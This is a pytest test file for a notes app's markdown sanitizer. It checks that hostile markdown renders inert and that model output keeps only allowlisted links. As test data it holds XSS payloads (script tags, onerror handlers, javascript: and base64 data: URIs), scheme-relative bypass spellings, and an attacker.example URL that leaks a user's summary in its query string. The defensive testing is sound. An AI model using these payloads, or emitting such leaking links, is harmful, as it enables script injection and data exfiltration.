from __future__ import annotations

import re

import pytest

from core.markdown import (
    _same_site,
    inert_links,
    link_targets,
    plain_text,
    render_markdown,
)
from tests.factories import NotebookFactory, NoteFactory
from tests.fixtures.markdown import (
    HOSTILE_SAMPLES,
    SCHEME_RELATIVE,
    assert_inert,
    elements,
)

HOSTILE = """# Title

<script>alert('x')</script>
<img src=x onerror="alert(1)">
<a href="javascript:alert(1)">raw link</a>
[md link](javascript:alert(2))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<iframe src="https://evil.example"></iframe>
<div style="background:url(javascript:alert(3))" onclick="alert(4)">div</div>
![tracker](https://attacker.example/pixel.png)
[fine](https://example.org/page)
"""


def test_hostile_markdown_renders_inert():
    html = str(render_markdown(HOSTILE))
    lowered = html.lower()
    for tag in ("<script", "<iframe", "<img", "<div"):
        assert tag not in lowered
    # No element carries an event handler or a style attribute.
    assert not re.search(r"<[a-z][^>]*\s(on\w+|style)\s*=", lowered)
    assert not re.search(r'<a[^>]*href="\s*(javascript|data|vbscript):', lowered)
    assert "<h1>Title</h1>" in html
    assert "&lt;script&gt;" in html  # raw HTML is shown as text, not executed


def test_links_get_noopener_noreferrer():
    html = str(render_markdown("[fine](https://example.org/page)"))
    assert 'href="https://example.org/page"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_remote_images_become_links_not_requests():
    html = str(render_markdown("![tracker](https://attacker.example/pixel.png)"))
    assert "<img" not in html
    assert '<a href="https://attacker.example/pixel.png"' in html


def test_markdown_features_survive_sanitizing():
    html = str(
        render_markdown("**b** _i_ ~~s~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```")
    )
    for tag in ("<strong>", "<em>", "<s>", "<table>", "<pre><code"):
        assert tag in html


@pytest.mark.django_db
def test_note_page_shows_hostile_body_inert(alice_client, alice):
    note = NoteFactory.create(notebook=NotebookFactory.create(owner=alice), body=HOSTILE)
    response = alice_client.get(f"/notes/{note.pk}/")
    assert response.status_code == 200
    body = response.content.decode().lower()
    assert "<script>alert" not in body
    assert "<img src=x" not in body
    assert not re.search(r'<a[^>]*href="\s*javascript:', body)
    assert "&lt;script&gt;" in body  # shown as text, not dropped silently


@pytest.mark.parametrize("name", sorted(HOSTILE_SAMPLES))
def test_hostile_sample_renders_inert(name):
    assert_inert(str(render_markdown(HOSTILE_SAMPLES[name])))


def test_all_hostile_samples_together_render_inert():
    assert_inert(str(render_markdown("\n\n".join(HOSTILE_SAMPLES.values()))))


def test_no_remote_image_whatever_the_spelling():
    html = str(render_markdown("\n\n".join(HOSTILE_SAMPLES.values())))
    assert not [attrs for _, attrs in elements(html) if "src" in attrs]
    # Markdown images are links the reader may follow, never requests the page makes.
    hrefs = [attrs.get("href", "") for tag, attrs in elements(html) if tag == "a"]
    assert "https://attacker.example/?q=secret" in hrefs
    assert "https://attacker.example/ref.png" in hrefs


def test_only_http_https_mailto_and_relative_links_survive():
    html = str(
        render_markdown(
            "[a](https://ok.example/) [b](http://ok.example/) [c](mailto:me@ok.example) "
            "[d](/notes/1/) [e](//ok.example/) [f](ftp://ok.example/) [g](tel:123) "
            "[h](data:text/plain,x) [i](javascript:alert(1)) [j](vbscript:x) [k](file:///x)"
        )
    )
    hrefs = {attrs.get("href") for tag, attrs in elements(html) if tag == "a"}
    assert hrefs == {
        "https://ok.example/",
        "http://ok.example/",
        "mailto:me@ok.example",
        "/notes/1/",
        None,  # the dropped ones keep their text, without a link; "//ok.example/" too
    }


@pytest.mark.parametrize(
    "href", ["//evil.example/", "///evil.example", " //evil.example", "/\\evil.example",
             "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "\x01//evil.example"],
)  # fmt: skip
def test_the_sanitizer_drops_a_scheme_relative_href_however_spelled(href):
    """markdown-it percent-encodes backslashes and tabs in a link; nh3, the second line, also
    drops what a browser would read as "//host" in whatever reaches it."""
    assert _same_site(href) is None
    assert SCHEME_RELATIVE.match(href)


@pytest.mark.parametrize("href", ["/attachments/3/file/#page=2", "/notes/1/", "#quote", "?page=2",
                                  "page.html", "/a//b", "https://ok.example//x"])  # fmt: skip
def test_the_sanitizer_keeps_links_to_this_site(href):
    assert _same_site(href) == href
    html = str(render_markdown(f"[x]({href})"))
    assert [attrs.get("href") for _, attrs in anchors(html)] == [href]


def test_an_image_inside_a_link_keeps_the_link_whole():
    html = str(render_markdown("[![logo](https://attacker.example/i.png)](https://ok.example/)"))
    assert html == (
        '<p><a href="https://ok.example/" rel="noopener noreferrer nofollow">logo</a></p>\n'
    )


def test_raw_html_and_entities_stay_text():
    html = str(render_markdown(HOSTILE_SAMPLES["entity-img"] + " " + HOSTILE_SAMPLES["raw-img"]))
    assert "&lt;img src=https://attacker.example/e.png&gt;" in html
    assert '&lt;img src="https://attacker.example/raw.png"&gt;' in html


# --- Model output: only the links it was allowed (grounding.citations.allowed_links) are links.
SOURCE_URL = "https://example.org/guide?page=2"
LEAK = "https://attacker.example/p?d=Alice%27s%20summary"


def anchors(html: str) -> list[tuple[str, dict[str, str]]]:
    return [(tag, attrs) for tag, attrs in elements(html) if tag == "a"]


def test_model_output_keeps_an_allowed_link_with_rel():
    html = str(render_markdown(f"See [the guide]({SOURCE_URL}).", links=[SOURCE_URL]))
    [(_, attrs)] = anchors(html)
    assert attrs["href"] == SOURCE_URL
    assert attrs["rel"] == "noopener noreferrer nofollow"


def test_model_output_shows_a_disallowed_link_as_text():
    html = str(render_markdown(f"Done: [summary]({LEAK}) and [guide]({SOURCE_URL})", links=[]))
    assert anchors(html) == []
    assert "summary (https://attacker.example/p?d=Alice's summary)" in html.replace("&#x27;", "'")


def test_model_output_never_links_an_image():
    source = f"![x]({LEAK}) ![]({SOURCE_URL}) [![logo](https://attacker.example/i.png)](/x)"
    html = str(render_markdown(source, links=[LEAK, SOURCE_URL]))
    assert anchors(html) == []
    assert "x (https://attacker.example/p?d=Alice's summary)" in html.replace("&#x27;", "'")
    assert f"{SOURCE_URL} logo (/x)" in html.replace("&amp;", "&")


def test_model_output_autolinks_follow_the_allowlist():
    html = str(render_markdown(f"<{SOURCE_URL}> <{LEAK}> <me@example.org>", links=[SOURCE_URL]))
    assert [attrs["href"] for _, attrs in anchors(html)] == [SOURCE_URL]
    assert "https://attacker.example/p?d=Alice's summary" in html.replace("&#x27;", "'")
    assert "me@example.org" in html


def test_model_output_reference_links_follow_the_allowlist():
    source = f"[ok][a] and [leak][b]\n\n[a]: {SOURCE_URL}\n[b]: {LEAK}"
    html = str(render_markdown(source, links=link_targets(f"<{SOURCE_URL}>")))
    assert [attrs["href"] for _, attrs in anchors(html)] == [SOURCE_URL]
    assert "leak (https://attacker.example/" in html


def test_model_output_link_in_code_stays_code():
    html = str(render_markdown(f"`[x]({LEAK})`\n\n```\n[y]({LEAK})\n```", links=[LEAK]))
    assert anchors(html) == []
    assert f"<code>[x]({LEAK})</code>" in html


def test_link_targets_are_what_the_renderer_compares():
    source = f"[a](<https://example.org/a b>) <https://例え.jp/x> ![i]({LEAK}) [r][r]\n\n[r]: /rel"
    targets = link_targets(source)
    assert targets == ["https://example.org/a%20b", "https://xn--r8jz45g.jp/x", "/rel"]
    html = str(render_markdown(source, links=targets))
    assert [attrs["href"] for _, attrs in anchors(html)] == targets


def test_notes_keep_their_links_and_image_links():
    html = str(render_markdown(f"[a]({LEAK}) ![b]({SOURCE_URL})"))
    assert [attrs["href"] for _, attrs in anchors(html)] == [LEAK, SOURCE_URL]


@pytest.mark.parametrize("name", sorted(HOSTILE_SAMPLES))
def test_hostile_sample_as_model_output_has_no_link(name):
    html = str(render_markdown(HOSTILE_SAMPLES[name], links=[]))
    assert_inert(html)
    assert anchors(html) == []


# --- Model output saved into a note (inert_links): the answer's links policy, kept in a note
# where every link is live.
ANSWER = f"""## Where to look

See [the guide]({SOURCE_URL}) [1], not [the summary]({LEAK}) nor [the mirror](//attacker.example/m).

- <https://attacker.example/auto> and [the index][i], then https://attacker.example/bare?d=x.
- ![chart](https://attacker.example/c.png) in [![logo](https://attacker.example/l.png)]({SOURCE_URL})

| step | where |
|---|---|
| 1 | [form](https://attacker.example/form) |

> Quoted `code [x](https://attacker.example/code)` stays as it is.

[i]: https://attacker.example/ref
"""


def test_a_saved_answer_links_only_what_the_answer_linked():
    saved = inert_links(ANSWER, links=[SOURCE_URL])
    html = str(render_markdown(saved))  # as a note: every link live
    assert [attrs["href"] for _, attrs in anchors(html)] == [SOURCE_URL, SOURCE_URL]
    assert_inert(html)
    text = html.replace("&amp;", "&").replace("&#x27;", "'")
    assert "not the summary (<code>https://attacker.example/p?d=Alice's summary</code>)" in text
    assert "nor the mirror (<code>//attacker.example/m</code>)" in text
    assert "<code>https://attacker.example/auto</code> and the index (<code>" in text
    assert "then <code>https://attacker.example/bare?d=x</code>." in text
    assert "chart (<code>https://attacker.example/c.png</code>) in <a" in text
    assert f'<a href="{SOURCE_URL}" rel="noopener noreferrer nofollow">logo</a>' in text
    assert "<td>form (<code>https://attacker.example/form</code>)</td>" in text
    assert "<code>code [x](https://attacker.example/code)</code>" in text


def test_a_saved_answer_is_the_answer_as_written_but_for_its_urls():
    saved = inert_links(ANSWER, links=[SOURCE_URL])
    kept = [line for line in ANSWER.splitlines() if "attacker" not in line or "`code" in line]
    assert [line for line in saved.splitlines() if line in kept] == kept
    assert inert_links(f"**Bold** _and_ ~~struck~~, [not kept]({SOURCE_URL}).", links=[]) == (
        f"**Bold** _and_ ~~struck~~, not kept (`{SOURCE_URL}`)."
    )
    assert inert_links("Nothing to change.\r\n\r\n1. a\r\n2. b", links=[]) == (
        "Nothing to change.\n\n1. a\n2. b"
    )


def test_an_answer_that_cannot_be_edited_in_place_is_saved_as_escaped_text():
    # An escaped pipe in a table cell: the cell's text is not its source; no guessing.
    source = f"| a |\n|---|\n| x \\| [l]({LEAK}) *y* |"
    saved = inert_links(source, links=[SOURCE_URL])
    html = str(render_markdown(saved))
    assert anchors(html) == []
    assert "<em>" not in html
    assert "<p>x | l y</p>" in html  # the reader's text, link and emphasis gone


@pytest.mark.parametrize("name", sorted(HOSTILE_SAMPLES))
def test_hostile_sample_saved_as_a_note_has_no_link(name):
    html = str(render_markdown(inert_links(HOSTILE_SAMPLES[name], links=[])))
    assert_inert(html)
    assert anchors(html) == []


def test_a_note_vouches_for_no_url_it_holds_as_code():
    saved = inert_links(ANSWER, links=[SOURCE_URL])
    prose = plain_text(saved, code=False)
    assert "attacker.example" not in prose
    assert "the summary" in prose
    assert "https://attacker.example/bare?d=x" in plain_text(saved)
